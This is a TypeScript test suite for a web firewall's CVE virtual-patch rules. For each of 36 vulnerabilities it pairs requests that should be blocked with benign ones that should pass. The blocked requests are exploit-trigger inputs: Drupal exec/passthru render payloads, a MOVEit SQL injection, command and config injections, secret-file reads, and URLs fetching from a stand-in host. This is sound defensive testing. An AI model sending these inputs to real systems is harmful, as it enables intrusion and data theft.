import { managedRuleSet, matchedIds, sendRequest, sites, type TestRequest } from './test-support/send.ts';

const form = (body: string): Pick<TestRequest, 'headers' | 'body'> => ({
  headers: ['Content-Type', 'application/x-www-form-urlencoded'],
  body,
});

const upload = (target: string, content: string): TestRequest => ({
  target,
  headers: ['Content-Type', 'multipart/form-data; boundary=b'],
  body: `--b\r\nContent-Disposition: form-data; name="file"; filename="config"\r\n\r\n${content}\r\n--b--\r\n`,
});

/** Per patch: requests that it stops, and honest ones to the same place. */
const PATCHES: readonly { cve: string; id: number; stops: TestRequest[]; passes: TestRequest[] }[] = [
  {
    cve: 'CVE-2012-1823',
    id: 19001,
    stops: [{ target: '/index.php?-s' }, { target: '/index.php?%ADd+x' }],
    passes: [{ target: '/index.php?-1' }, { target: '/?source' }],
  },
  {
    cve: 'CVE-2017-12617',
    id: 19002,
    stops: [
      { method: 'PUT', target: '/a.jsp/', body: 'x' },
      { method: 'PUT', target: '/a.session', body: 'x' },
    ],
    passes: [{ method: 'PUT', target: '/a.jpg', body: 'x' }, { target: '/a.jsp' }],
  },
  {
    cve: 'CVE-2018-7600',
    id: 19019,
    stops: [
      form('mail%5B%23post_render%5D%5B%5D=exec&mail%5B%23markup%5D=id'),
      { target: '/?q=user/password&name%5B%23pre_render%5D%5B%5D=passthru' },
      form(
        'form_id=user_pass&_triggering_element_name=name&destination=/a%3Fq%5B%252523post_render%5D%5B%5D%3Dexec',
      ),
    ],
    passes: [
      form('field_tags%5Bund%5D=%23type&form_id=node_form'),
      { target: '/?filters%5Btype%5D=a&color%5B%5D=%23fff' },
    ],
  },
  {
    cve: 'CVE-2018-20062',
    id: 19003,
    stops: [{ target: '/?s=index/\\think\\app/invokefunction' }, form('_method=__construct')],
    passes: [{ target: '/?s=index/list' }, form('_method=PUT')],
  },
  {
    cve: 'CVE-2021-21972',
    id: 19004,
    stops: [{ target: '/ui/vropspluginui/rest/services/uploadova' }],
    passes: [{ target: '/ui/' }],
  },
  {
    cve: 'CVE-2022-1388',
    id: 19005,
    stops: [{ target: '/mgmt/tm/util/bash' }],
    passes: [{ target: '/mgmt/tm/sys' }],
  },
  {
    cve: 'CVE-2022-0415',
    id: 19018,
    stops: [upload('/team/site/upload-file', '[core]\n\tbare = false\n\tsshCommand = touch x\n')],
    passes: [
      upload('/team/site/upload-file', '[core]\n\tbare = false\n[remote "origin"]\n'),
      upload('/notes', '[core]\n\tsshCommand = ssh -i ~/.ssh/work\n'),
    ],
  },
  {
    cve: 'CVE-2022-22963',
    id: 19006,
    stops: [{ headers: ['spring.cloud.function.routing-expression', 'x'] }],
    passes: [{ headers: ['spring.cloud.function.definition', 'x'] }],
  },
  {
    cve: 'CVE-2022-40684',
    id: 19007,
    stops: [{ target: '/api/v2/cmdb/system/admin', headers: ['User-Agent', 'Report Runner'] }],
    passes: [{ target: '/api/v2/items', headers: ['User-Agent', 'curl/8'] }],
  },
  {
    cve: 'CVE-2023-20198',
    id: 19008,
    stops: [{ target: '/%2577eb%2575i_%2577sma_Http' }],
    passes: [{ target: '/webui' }],
  },
  {
    cve: 'CVE-2023-22515',
    id: 19009,
    stops: [{ target: '/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false' }],
    passes: [{ target: '/server-info.action' }],
  },
  {
    cve: 'CVE-2023-29300',
    id: 19010,
    stops: [form("argumentCollection=<wddxPacket version='1.0'></wddxPacket>")],
    passes: [form('argumentCollection={"a":1}')],
  },
  {
    cve: 'CVE-2023-34362',
    id: 19011,
    stops: [
      {
        target: '/moveitisapi/moveitisapi.dll?action=m2',
        headers: [
          ...['X-siLock-Transaction', 'session_setvars'],
          ...['X-siLock-SessVar1', "MyPkgRecips: x'); DELETE FROM log"],
        ],
      },
    ],
    passes: [
      { target: '/moveitisapi/moveitisapi.dll?action=m2' },
      {
        target: '/moveitisapi/moveitisapi.dll?action=m2',
        headers: [
          ...['X-siLock-Transaction', 'folder_add_by_path'],
          ...['X-siLock-SessVar0', 'MyGuestEmailAddr: jane@example.com'],
        ],
      },
    ],
  },
  {
    cve: 'CVE-2023-42793',
    id: 19012,
    stops: [{ method: 'POST', target: '/app/rest/users/id:1/tokens/RPC2' }],
    passes: [{ target: '/app/rest/users' }, { target: '/RPC2' }],
  },
  {
    cve: 'CVE-2023-4966',
    id: 19013,
    stops: [{ headers: ['Host', 'a'.repeat(2000)] }],
    passes: [{ headers: ['Host', 'a'.repeat(200)] }],
  },
  {
    cve: 'CVE-2024-1709',
    id: 19014,
    stops: [{ target: '/SetupWizard.aspx/x' }],
    passes: [{ target: '/SetupWizard.aspx' }],
  },
  {
    cve: 'CVE-2024-27198',
    id: 19015,
    stops: [{ target: '/x?jsp=/app/rest/users;.jsp' }],
    passes: [{ target: '/x?jsp=1' }],
  },
  {
    cve: 'CVE-2025-29927',
    id: 19016,
    stops: [{ headers: ['x-middleware-subrequest', 'middleware'] }],
    passes: [{ headers: ['x-middleware-prefetch', '1'] }],
  },
  {
    cve: 'CVE-2025-55182',
    id: 19017,
    stops: [
      {
        headers: ['Content-Type', 'application/json'],
        body: '{"then":"$1:__proto__:then","status":"resolved_model"}',
      },
    ],
    passes: [{ headers: ['Content-Type', 'application/json'], body: '{"then":"$1:then"}' }],
  },
  {
    cve: 'CVE-2023-22518',
    id: 19020,
    stops: [{ method: 'POST', target: '/json/setup-restore.action?synchronous=true', body: 'x' }],
    passes: [{ target: '/json/setup.action' }],
  },
  {
    cve: 'CVE-2023-23752',
    id: 19021,
    stops: [{ target: '/api/index.php/v1/config/application?public=true' }],
    passes: [{ target: '/api/index.php/v1/content/articles?public=true' }, { target: '/api/v1/users' }],
  },
  {
    cve: 'CVE-2023-27350',
    id: 19022,
    stops: [{ target: '/app?service=page/SetupCompleted' }],
    passes: [{ target: '/app?service=page/Home' }],
  },
  {
    cve: 'CVE-2023-28432',
    id: 19023,
    stops: [{ method: 'POST', target: '/minio/bootstrap/v1/verify', body: 'x' }],
    passes: [{ target: '/minio/health/live' }],
  },
  {
    cve: 'CVE-2023-49103',
    id: 19024,
    stops: [
      {
        target: '/apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css',
      },
    ],
    passes: [{ target: '/apps/graphapi/css/a.css' }],
  },
  {
    cve: 'CVE-2023-51467',
    id: 19025,
    stops: [{ target: '/webtools/control/ping?USERNAME=&PASSWORD=&requirePasswordChange=Y' }],
    passes: [{ target: '/webtools/control/main' }, { target: '/account?requirePasswordChange=Y' }],
  },
  {
    cve: 'CVE-2024-0012',
    id: 19026,
    stops: [{ target: '/php/ztp_gate.php/.js.map', headers: ['X-PAN-AUTHCHECK', 'off'] }],
    passes: [{ target: '/php/login.php', headers: ['X-PAN-AUTHCHECK', 'off'] }],
  },
  {
    cve: 'CVE-2024-3273',
    id: 19027,
    stops: [{ target: '/cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=' }],
    passes: [{ target: '/cgi-bin/nas_sharing.cgi?cmd=1' }],
  },
  {
    cve: 'CVE-2024-7593',
    id: 19028,
    stops: [{ target: '/apps/zxtm/wizard.fcgi?error=1&section=Access+Management%3ALocalUsers' }],
    passes: [{ target: '/apps/zxtm/wizard.fcgi?section=Traffic' }],
  },
  {
    cve: 'CVE-2024-9264',
    id: 19029,
    stops: [
      form("sql=select content from read_blob('/srv/secret')"),
      form('sql=install shellfs from community'),
    ],
    passes: [form("text=How do I call read_csv('prices.csv') in DuckDB?")],
  },
  {
    cve: 'CVE-2024-10924',
    id: 19030,
    stops: [
      {
        target: '/?rest_route=/reallysimplessl/v1/two_fa/skip_onboarding',
        headers: ['Content-Type', 'application/json'],
        body: '{"user_id":1,"login_nonce":"1"}',
      },
    ],
    passes: [{ target: '/?rest_route=/reallysimplessl/v1/two_fa/verify' }],
  },
  {
    cve: 'CVE-2024-34102',
    id: 19031,
    stops: [
      {
        target: '/rest/V1/guest-carts/1/estimate-shipping-methods',
        headers: ['Content-Type', 'application/json'],
        body: '{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":{"data":"http://a.example","dataIsURL":true}}}}}}',
      },
    ],
    passes: [
      {
        target: '/rest/V1/guest-carts/1/estimate-shipping-methods',
        headers: ['Content-Type', 'application/json'],
        body: '{"address":{"city":"Bonn","countryId":"DE"}}',
      },
    ],
  },
  {
    cve: 'CVE-2024-55591',
    id: 19032,
    stops: [{ target: '/ws/cli/open?cols=162&rows=100&local_access_token=x' }],
    passes: [{ target: '/ws/cli/open?cols=162&rows=100' }],
  },
  {
    cve: 'CVE-2024-56145',
    id: 19033,
    stops: [{ target: '/?--templatesPath=ftp://a.example/' }],
    passes: [{ target: '/?--verbose=1' }, { target: '/?templatesPath=a' }],
  },
  {
    cve: 'CVE-2025-1974',
    id: 19034,
    stops: [
      {
        headers: ['Content-Type', 'application/json'],
        body: JSON.stringify({
          request: {
            object: {
              metadata: { annotations: { 'x/auth-url': 'http://a/#;}}}\nssl_engine /proc/1/fd/2;\n' } },
            },
          },
        }),
      },
    ],
    passes: [
      {
        headers: ['Content-Type', 'application/json'],
        body: JSON.stringify({
          request: { object: { metadata: { annotations: { note: 'use load_module in nginx.conf' } } } },
        }),
      },
    ],
  },
  {
    cve: 'CVE-2025-31161',
    id: 19035,
    stops: [{ headers: ['Authorization', 'AWS4-HMAC-SHA256 Credential=crushadmin/'] }],
    passes: [
      {
        headers: [
          'Authorization',
          'AWS4-HMAC-SHA256 Credential=AKIA/20260101/eu-1/s3/aws4_request, SignedHeaders=host, Signature=ab',
        ],
      },
    ],
  },
  {
    cve: 'CVE-2025-53770',
    id: 19036,
    stops: [
      {
        target: '/_layouts/15/ToolPane.aspx?DisplayMode=Edit',
        ...form('a=b'),
        headers: ['Content-Type', 'application/x-www-form-urlencoded', 'Referer', '/_layouts/SignOut.aspx'],
      },
    ],
    passes: [{ target: '/_layouts/15/ToolPane.aspx?DisplayMode=Edit', headers: ['Referer', '/sites/a/'] }],
  },
];

describe('virtual patches', () => {
  it.each(PATCHES)('$cve is stopped by $id from medium on, and honest requests pass', (patch) => {
    for (const request of patch.stops) {
      expect(matchedIds(sendRequest(sites.medium, request))).toContain(patch.id);
      expect(matchedIds(sendRequest(sites.low, request))).not.toContain(patch.id);
    }
    for (const request of patch.passes)
      expect(matchedIds(sendRequest(sites.medium, request))).not.toContain(patch.id);
  });

  it('all have examples here, and name their CVE', () => {
    const named = managedRuleSet.ruleIds
      .map((id) => managedRuleSet.describe(id)!)
      .filter(({ tags }) => tags.includes('family/virtual-patch'))
      .map(({ id, tags, message }) => {
        const cve = tags.find((tag) => tag.startsWith('cve/'))?.slice('cve/'.length) ?? 'none';
        expect(message).toContain(`(${cve})`);
        return { id, cve };
      });
    expect(named).toEqual(PATCHES.map(({ id, cve }) => ({ id, cve })));
  });
});
